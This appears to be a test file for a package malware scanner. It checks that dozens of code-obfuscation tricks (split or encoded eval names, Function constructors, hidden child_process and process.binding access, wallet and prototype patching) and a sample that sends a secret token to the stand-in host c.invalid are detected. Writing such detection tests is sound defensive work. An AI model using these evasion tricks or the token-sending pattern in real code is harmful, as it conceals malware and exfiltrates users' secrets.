import t from 'tap'
import { CodeAnalysis, type CodeHost } from '../../../../../lib/inspect/code/analysis.ts'
import { openings } from '../../../../../lib/inspect/code/lexer/gate.ts'
import { GatedAnalysis } from '../../../../../lib/inspect/code/lexer/gated-analysis.ts'
import { lex } from '../../../../../lib/inspect/code/lexer/lexer.ts'
import { harmlessBuiltIns, isPower, models } from '../../../../../lib/inspect/code/lexer/powers.ts'
import { expand } from '../../../../../lib/inspect/code/models/model.ts'

const what = (text: string): readonly string[] =>
  openings(new Map([['index.js', lex(text)]])).map(opening => opening.what)

t.test('every way of evading a name opens the gate', t => {
  const evasions: readonly (readonly [string, string])[] = [
    // Split, reversed and templated names.
    ['split', `globalThis['ev' + 'al'](x)`],
    ['split through variables', `const a = 'con', b = 'structor'; const F = g[a + b]; F(globalThis)`],
    ['reversed', `const k = 'rotcurtsnoc'.split('').reverse().join(''); f[k]('require(1)')()`],
    ['templated', 'const k = `ev${"al"}`; globalThis[k](x)'],
    ['joined', `const k = ['e', 'v', 'a', 'l'].join(''); window[k](x)`],
    ['between separators', `const k = 'e-v-a-l'.replace(/-/g, ''); self[k](x)`],
    // Character codes, hexadecimal, base64, escapes.
    ['char codes', `const g = globalThis; g[String.fromCharCode(101, 118, 97, 108)](x)`],
    ['char codes by a literal member', `const g = self; g[String['fromCharCode'](101, 118, 97, 108)](x)`],
    ['base64', `const g = window; g[atob('ZXZhbA==')](x)`],
    ['Buffer', `const g = global; g[Buffer.from('6576616c', 'hex').toString()](x)`],
    ['an escape in a name', `\\u0065val('1')`],
    ['an escape in a string', `globalThis['\\x65val']('1')`],
    ['an octal escape', `globalThis['\\145val']('1')`],
    ['a radix', `const g = globalThis; g[(693741).toString(36)](x)`],
    // Tables and ciphers.
    [
      'xor',
      `const t = [${Array.from({ length: 20 }, (_, i) => i * 7).join()}]; f(t.map(n => String.fromCharCode(n ^ 9)).join(''))`,
    ],
    [
      'an alphabet',
      `const s = 'abcdefghijklmnopqrstuvwxyz'; const g = globalThis; g[s[4] + s[21] + s[0] + s[11]](x)`,
    ],
    ['an obfuscator', `var ${Array.from({ length: 9 }, (_, i) => `_0x3f2a${i}`).join()};`],
    // Keys from elsewhere.
    ['a key from a manifest', `globalThis[require('./package.json').key](x)`],
    ['a key from the environment', `globalThis[process.env.KEY](x)`],
    ['part of a key from the environment', `globalThis['ev' + process.env.KEY](x)`],
    [
      'invisible text',
      'const g = globalThis; g[String.fromCodePoint(...[..."\u{e0065}\u{e0076}"].map(c => c.codePointAt(0)))](x)',
    ],
    // Constructors.
    ['constructor of a method', `[].map.constructor('x')()`],
    ['constructor as a literal member', `[].map['constructor']('x')()`],
    ['constructor twice', `({}).constructor.constructor('x')()`],
    ['constructor by its name', `const k = 'constructor'; f[k]("require('child_process')")()`],
    ['constructor destructured', `const { constructor: F } = f; F("require('child_process')")()`],
    [
      'no letters',
      `[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]]+[])[!+[]+!+[]+!+[]]]()`,
    ],
    // Modules in disguise.
    ['module.constructor', `module.constructor._load('x')`],
    ['module by a literal member', `module['constructor']['_load']('x')`],
    ['binding', `process.binding('spawn_sync')`],
    ['binding by a literal member', `process['binding']('spawn_sync')`],
    ['binding destructured', `const { binding } = process; binding('spawn_sync')`],
    ['binding renamed', `const { binding: b } = process; b('spawn_sync')`],
    ['binding in a nested pattern', `const { process: { binding: b } } = globalThis; b('spawn_sync')`],
    ['a global renamed', `const { eval: e } = globalThis; e(x)`],
    ['a global renamed by text', `const { 'eval': e } = globalThis; e(x)`],
    ['a computed member of process', `process[a + b]('spawn_sync')`],
    ['mainModule', `process.mainModule.require('x')`],
    ['getBuiltinModule', `process.getBuiltinModule('fs')`],
    ['createRequire', `import { createRequire as c } from 'module'`],
    ['a computed require', `require(name)`],
    ['a joined require', `require('child_' + 'process')`],
    ['a templated require', 'require(`child_${"process"}`)'],
    ['require as a value', `const r = require; r('x')`],
    ['require in a list', `['child_process'].map(require)`],
    ['module.require', `module.require(name)`],
    ['a computed import', `import('node:' + x)`],
    ['arguments of the module', `const r = arguments[1]; r(x)`],
    ['arguments of the module in an arrow function', `(() => arguments[1](x))()`],
    // Names in other places.
    ['an alias', `const e = eval; e(x)`],
    ['a comma call', `(0, eval)(x)`],
    ['a default parameter', `(function (e = eval) { e(x) })()`],
    ['a wrapper', `const call = (f, ...a) => f(...a); call(fetch, u)`],
    ['bind', `const f = fetch.bind(null, u); f()`],
    ['a getter', `Object.defineProperty(o, 'x', { get() { return eval(s) } })`],
    ['a tag', 'eval`x`'],
    ['in a template', '`${`${eval(x)}`}`'],
    ['behind a regular expression', `if (x) /[/]'/.test(x); eval(y) /* ' */`],
    ['behind a division', `a = b / c; eval(y) / d`],
    ['an event', `process.on('exit', () => fetch(u))`],
    ['code as text for a timer', `setTimeout("require('child_process').exec('x')", 5)`],
    // Ways out by their own names.
    ['a socket', `import net from 'node:net'; net.connect(1)`],
    ['a module under a name', `const { METHODS, request } = require('http')`],
    ['a module behind a table', `const { METHODS } = require('http').globalAgent.constructor`],
    ['a module behind its table', `const http = require('http'); http.METHODS; f(http)`],
    ['a module that is exported', `export const net = require('net'); net.isIP(x)`],
    ['a module handed on', `const net = f(require('net')); net.isIP(x)`],
    ['a module by the way', `f(a, net = require('net')); net.isIP(x)`],
    ['a module under a key', `const net = require('net'); net[k](); net.isIP(x)`],
    ['a module in an object', `import net from 'net'; o = { net }`],
    ['a member under another name', `import { isIP, connect as isIPv4 } from 'net'`],
    ['the rest of a module', `const { isIP, ...rest } = require('net')`],
    ['a default value', `const { isIP = g, isIPv4 = connect } = require('net')`],
    ['Function by its call', `Function.call(null, 'x')`],
    ['a page', `new Image().src = u; document.cookie`],
    ['a worker', `new Worker(u)`],
    ['a write', `require('fs').writeFileSync(p, x)`],
    ['a write destructured', `const { rm } = require('node:fs/promises')`],
    ['a write through promises', `require('fs').promises`],
    ['machine code', `require('./build/x.node')`],
    ['code in a name', `import 'data:text/javascript,x'`],
    ['an HTML comment', `x <!-- y`],
    // Patches.
    ['a patched module', `const web3 = require('@x/web3'); web3.A.transfer = p => original(p)`],
    ['a patched import', `import * as sdk from 'sdk'; sdk.Client.prototype.sign = function () {}`],
    ['a patched copy', `const { Client } = require('sdk'); const p = Client.prototype; p.go = f`],
    ['a defined member', `const s = require('sdk'); Object.defineProperty(s.Client.prototype, 'x', {})`],
    ['a patched prototype', `Array.prototype.push = function () {}`],
    ['a patched wallet', `wallet.signTransaction = async tx => swap(tx)`],
  ]
  for (const [title, text] of evasions) t.not(what(text).length, 0, `${title}: ${text.slice(0, 60)}`)
  t.end()
})

t.test('what honest code does every day keeps the gate closed', t => {
  const honest: readonly string[] = [
    `'use strict'; module.exports = (a, b) => a + b`,
    `class A { constructor(x) { this.x = x } get fetch() { return 1 } eval(x) { return x } }`,
    `if (process.env.NODE_ENV !== 'production') console.warn('x')`,
    `const root = typeof globalThis !== 'undefined' ? globalThis : typeof window !== 'undefined' ? window : {}`,
    `x.constructor === Object && x.constructor.name && x instanceof Function`,
    `new this.constructor(x)`,
    `Function.prototype.call.bind(f)`,
    `const has = Function.call.bind(Object.prototype.hasOwnProperty)`,
    `const { METHODS } = require('node:http'); METHODS.map(m => m.toLowerCase())`,
    `const { METHODS: methods, STATUS_CODES } = require('http'), x = 1`,
    `exports.codes = require('http').STATUS_CODES`,
    `import { isIP as isAddress, isIPv6 } from 'net'`,
    `import * as net from 'node:net'; export const isAddress = x => net.isIP(x) > 0`,
    `var net = require('net'); o.net = net.isIPv4(o.net)`,
    `typeof require === 'function' && typeof fetch === 'function'`,
    `const fs = require('fs'); exports.read = p => fs.readFileSync(p, 'utf8')`,
    `const { join } = require('path'); module.exports = require('./lib')`,
    `import a from 'lodash'; export * from './b.js'`,
    `for (const key of Object.keys(o)) if (key === 'constructor' || key === '__proto__') delete o[key]`,
    `define(function (require, exports, module) { const a = require('./a') })`,
    `const names = { fetch: 1, eval: 2, binding: 3 }; names[k]`,
    `setTimeout(() => done(), 10)`,
    `emitter.on('data', x => x.reverse())`,
    `const text = String.fromCharCode(c); out += text`,
    `process.on('exit', () => process.stdout.write(process.cwd()))`,
    `function f() { return arguments[1] }`,
  ]
  for (const text of honest) t.same(what(text), [], text)
  t.end()
})

t.test('what is done with a client or a bot of the caller opens the gate', t => {
  const hook = 'exports.use = client => client.interceptors.request.use(c => { c.baseURL = `https://${h}/` })'
  t.strictSame(what(hook), ['a hook of a client, an address'])
  t.strictSame(what("client['interceptors'].request.use(c => { c.baseURL = 'https://a.example' })"), [
    'a hook of a client, an address',
  ])
  t.strictSame(what('client.interceptors.request.use(c => { c.at = 1 })'), [], 'without an address')
  t.strictSame(what('exports.tell = (bot, text) => bot.telegram.sendMessage(chat, text)'), [
    'message of a bot',
  ])
  t.strictSame(what("bot['forwardMessage'](chat, from, id)"), ['message of a bot'])
  t.end()
})

t.test('the pieces of a name may lie in two files', t => {
  const files = new Map([
    ['a.js', lex(`exports.a = 'const'; exports.b = 'ructor'`)],
    ['b.js', lex(`const { a, b } = require('./a.js'); const g = globalThis; f[a + b](x)`)],
  ])
  t.not(openings(files).length, 0)
  t.end()
})

t.test('every model that is a way out opens the gate by its name', t => {
  for (const model of models) {
    if (!isPower(model)) continue
    for (const api of model.of.flatMap(expand)) {
      // It takes the descriptor of a file that was opened, and opening is looked for.
      if (api === 'node:fs.write') continue
      const text = use(api)
      if (text !== undefined) t.not(what(text).length, 0, `${api}: ${text}`)
    }
  }
  t.end()
})

t.test('every built-in is known to be a way out or none', t => {
  for (const model of models)
    if (model.act === 'built-in' && !isPower(model)) t.ok(harmlessBuiltIns.has(model.name), model.name)
  t.end()
})

t.test('a secret beside a package that nobody knows opens the gate', t => {
  const send = "require('some-client').post('https://c.invalid', { t })"
  const rows: readonly (readonly [text: string, opens: boolean])[] = [
    [`const t = process.env.SERVICE_TOKEN; ${send}`, true],
    [`const t = process.env['SERVICE_TOKEN']; ${send}`, true],
    [`const t = process.env[name]; ${send}`, true],
    [`exports.f = privateKey => { const t = privateKey; ${send} }`, true],
    [`const t = process.env.NODE_ENV; ${send}`, false],
    [`const t = process.env['NODE_ENV']; ${send}`, false],
    ["exports.t = process.env.SERVICE_TOKEN; require('./other.js').post()", false],
  ]
  for (const [text, opens] of rows) t.equal(what(text).length > 0, opens, text)
  t.end()
})

/** Code that reaches an API as programs do; undefined for methods of instances, which something has to make first. */
function use(api: string): string | undefined {
  if (api.startsWith('global:')) return `${api.slice(7).replace('()', '')}(x)`
  const [, kind, rest = ''] = /^(node|pkg):(.*)$/.exec(api) ?? []
  if (kind === undefined) return undefined
  const name =
    /^(?:@[^/]+\/[^.]+|discord\.js|whatsapp-web\.js|(?:socket|engine)\.io-client|[^.]+)/.exec(rest)?.[0] ??
    rest
  return `require('${name}')${rest.slice(name.length).replaceAll('()', '')}(x)`
}

const host = (files: Readonly<Record<string, string>>): CodeHost => ({
  text: path => files[path],
  resolve: (_from, specifier) => {
    const path = specifier.replace(/^\.\//, '')
    return files[path] === undefined ? undefined : path
  },
  manifest: { name: 'x', version: '1.0.0', description: undefined, raw: {} },
})

t.test('files behind a closed gate are counted with their phases and edges', t => {
  const files = {
    'index.js': `require('./a.js')`,
    'a.js': `module.exports = 1`,
    'cli.js': `require('./a.js')`,
  }
  let made = 0
  const gated = new GatedAnalysis(host(files), inner => {
    made++
    return new CodeAnalysis(inner)
  })
  gated.addEntry({ path: 'cli.js', phase: 'run', via: 'bin:x' })
  gated.addEntry({ path: 'index.js', phase: 'import', via: 'main' })
  gated.run()
  const { edges, filePhases } = gated.result()
  t.equal(made, 0)
  t.same(Object.fromEntries(filePhases), { 'cli.js': 'run', 'index.js': 'import', 'a.js': 'import' })
  t.same(edges.map(({ from, to }) => `${from} ${to}`).toSorted(), ['cli.js a.js', 'index.js a.js'])
  t.end()
})

t.test('what runs at install, and what a later entry brings, is interpreted', t => {
  let made = 0
  const make = (inner: CodeHost): CodeAnalysis => {
    made++
    return new CodeAnalysis(inner)
  }
  const install = new GatedAnalysis(host({ 'index.js': `module.exports = 1` }), make)
  install.addEntry({ path: 'index.js', phase: 'install', via: 'postinstall' })
  install.run()
  t.equal(made, 1)
  const virtual = new GatedAnalysis(host({ 'index.js': `module.exports = 1` }), make)
  virtual.addEntry({ path: 'index.js', phase: 'import', via: 'main' })
  virtual.run()
  t.equal(made, 1)
  virtual.addVirtual({
    path: 'package.json#1:1.cjs',
    phase: 'install',
    via: 'postinstall',
    text: 'fetch("https://a.test")',
  })
  virtual.run()
  t.equal(made, 2)
  t.ok(virtual.result().facts.some(fact => fact.kind === 'contacts'))
  t.ok(virtual.result().filePhases.has('index.js'))
  t.end()
})
